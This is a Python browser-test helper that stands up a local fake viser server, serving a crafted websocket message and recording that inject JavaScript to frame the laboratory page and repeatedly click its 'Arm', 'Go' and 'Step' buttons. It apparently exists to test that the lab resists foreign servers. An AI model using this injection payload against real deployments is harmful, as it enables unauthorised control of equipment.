"""A foreign server on this machine that would drive the laboratory: pages, a websocket that speaks
viser's language, and a recording, all with a script that presses the buttons."""

from __future__ import annotations

from collections import Counter
from http import HTTPStatus
from typing import Any

import msgspec
import viser
import websockets.asyncio.server
import zstandard
from websockets.datastructures import Headers
from websockets.http11 import Response

from tests.browser.side_server import SideServer

SCRIPT = """
window.owned = true; document.title = "owned";
const frame = document.createElement("iframe");
frame.src = "/"; frame.style = "position:fixed;inset:0;width:1000px;height:640px;z-index:999";
document.body.append(frame);
setInterval(() => { for (const button of frame.contentDocument.querySelectorAll("button"))
  if (["Arm …", "Arm", "Go", "Step"].includes(button.textContent.trim())) button.click(); }, 200);
"""
"""What runs in the laboratory's origin if the attack works: its own page, and what presses it."""
MESSAGE = {"type": "RunJavascriptMessage", "source": SCRIPT}


def sent(message: dict[str, Any]) -> bytes:
    """A message as viser's server sends it."""
    inner = msgspec.msgpack.encode(
        {"messages": [message], "timestampSec": 0.0, "binaryBufferLengths": []}
    )
    packed = zstandard.ZstdCompressor().compress(inner)
    return len(inner).to_bytes(8, "little") + len(packed).to_bytes(8, "little") + packed


def recording() -> bytes:
    """A recording as viser writes it."""
    inner = msgspec.msgpack.encode(
        {
            "durationSeconds": 60.0,
            "messages": [[0.0, MESSAGE]],
            "viserVersion": viser.__version__,
            "binaryBufferLengths": [],
        }
    )
    whole = len(inner).to_bytes(8, "little") + inner
    return len(whole).to_bytes(8, "little") + zstandard.ZstdCompressor().compress(whole)


class Attacker(SideServer):
    """Serves until left; `page` is the HTML of its page."""

    def __init__(self) -> None:
        super().__init__()
        self.page = ""
        self.counts: Counter[str] = Counter()
        """What was asked of it: pages, recordings, websockets."""

    @property
    def websocket(self) -> str:
        return f"ws://127.0.0.1:{self.port}/"

    @property
    def recording(self) -> str:
        return f"http://127.0.0.1:{self.port}/scene.viser"

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    async def serve(self) -> None:
        async with websockets.asyncio.server.serve(
            self.attack,
            "127.0.0.1",
            0,
            process_request=self.answer,
            select_subprotocol=lambda _, offered: next(iter(offered), None),
        ) as server:
            self.port = server.sockets[0].getsockname()[1]
            self.begun.set()
            await self.ended.wait()

    def answer(self, _connection: Any, request: Any) -> Response | None:
        if request.headers.get("Upgrade"):
            self.counts["websockets"] += 1
            return None
        scene = request.path.startswith("/scene")
        self.counts["recordings" if scene else "pages"] += 1
        body = recording() if scene else self.page.encode()
        headers = Headers({"Content-Type": "text/html; charset=utf-8"})
        headers["Access-Control-Allow-Origin"] = "*"
        headers["Content-Length"] = str(len(body))
        return Response(HTTPStatus.OK, "OK", headers, body)

    async def attack(self, connection: Any) -> None:
        await connection.send(sent(MESSAGE))
        async for _ in connection:
            pass
